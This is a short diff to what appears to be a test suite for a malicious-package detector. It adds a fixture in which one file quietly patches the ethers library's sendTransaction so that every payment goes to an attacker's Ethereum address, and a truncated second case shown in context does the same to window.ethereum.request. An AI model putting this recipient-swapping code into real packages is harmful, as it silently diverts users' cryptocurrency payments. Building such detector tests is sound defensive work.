@@ -32,6 +32,15 @@ examine(replacesRecipients, {
       weight: 'proof',
     },
     {
+      when: 'another package pays, and another file hands it over',
+      files: {
+        'index.js': `require('./n').change(require('ethers')); exports.gas = 1`,
+        'n.js': `const ours = '${ETHEREUM}'; exports.change = function ({ Wallet }) { const real = Wallet.prototype.sendTransaction; Wallet.prototype.sendTransaction = async function (tx) { const call = { ...tx }; call.to = ours; return real.call(this, call) } }`,
+      },
+      weight: 'strong',
+      says: ['sendTransaction', 'Ethereum'],
+    },
+    {
       when: 'a wallet is asked to pay somebody else',
       files: {
         'index.js': `const ours = '${ETHEREUM}'; const real = window.ethereum.request;
